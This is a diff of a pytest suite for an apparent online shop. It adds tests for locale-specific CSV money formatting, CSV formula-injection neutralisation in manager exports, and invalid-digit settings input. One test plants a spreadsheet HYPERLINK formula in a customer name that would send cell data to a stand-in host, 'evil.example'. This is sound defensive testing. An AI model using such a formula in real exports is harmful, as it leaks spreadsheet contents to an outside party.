@@ -112,6 +112,35 @@ def test_german_csv_uses_decimal_commas(client, shop, make):
     assert all("." not in value for value in values.values() if value)
 
 
+@pytest.mark.parametrize("locale, totals", [("en", {"39.95", "249.95", "1529.65"}),
+                                            ("de", {"39,95", "249,95", "1529,65"})])
+def test_csv_money_is_exact_to_the_cent_for_the_language(client, shop, make, locale, totals):
+    from omnistore.models import Staff
+
+    ham, now = shop["ham"], datetime.now(UTC)
+    for price, quantity in ((3995, 1), (24995, 1), (30593, 5)):
+        make.order(ham, [(make.variant(price_minor=price), quantity, ham)], placed_at=now - timedelta(hours=2))
+    db.session.execute(Staff.__table__.update().where(Staff.email == "manager@example.test").values(locale=locale))
+    db.session.commit()
+    client.login("manager@example.test")
+    rows = read_csv(client.get("/manager/orders.csv?period=7d&figure=placed"))
+    assert totals <= {row[-1] for row in rows[1:]}
+
+
+def test_a_formula_in_a_customer_name_is_neutralised_in_every_manager_export(client, shop, make):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Anna")'
+    customer = make.customer(first_name=evil, last_name="")
+    ham = shop["ham"]
+    make.order(ham, [(make.variant(), 1, ham)], customer=customer, placed_at=datetime.now(UTC) - timedelta(hours=1))
+    client.login("admin@example.test")
+    rows = read_csv(client.get("/manager/orders.csv?period=7d&figure=placed"))
+    names = [row[2] for row in rows[1:] if row[2]]
+    assert names and all(name.startswith("'=") for name in names)
+    for path in ("figures.csv", "handovers.csv", "league.csv", "orders.csv?figure=placed"):
+        for row in read_csv(client.get(f"/manager/{path}{'&' if '?' in path else '?'}period=7d")):
+            assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row), (path, row)
+
+
 def test_handover_log_filters_and_order_timeline(client, shop):
     client.login("manager@example.test")
     page = client.get("/manager/handovers?period=7d").get_data(as_text=True)
@@ -145,6 +174,9 @@ def test_a_manager_changes_the_pickup_rules_of_the_own_store(client, shop):
     ("reminder_day", "7", "The reminder goes out before the last hold day"),
     ("mon", "9 to 5", "Give the hours as 09:30-20:00"),
     ("transfer_capacity", "-1", "Number must be between 0 and 10000."),
+    ("hold_days", "\u0661\u0662", "Enter a whole number with the digits 0–9"),  # Arabic-Indic 12
+    ("transfer_capacity", "1_0", "Enter a whole number with the digits 0–9"),
+    ("safety_stock", "\uff13", "Enter a whole number with the digits 0–9"),  # a full-width 3
 ])
 def test_bad_settings_are_refused_where_the_manager_looks(client, shop, field, value, message):
     client.login("manager@example.test")
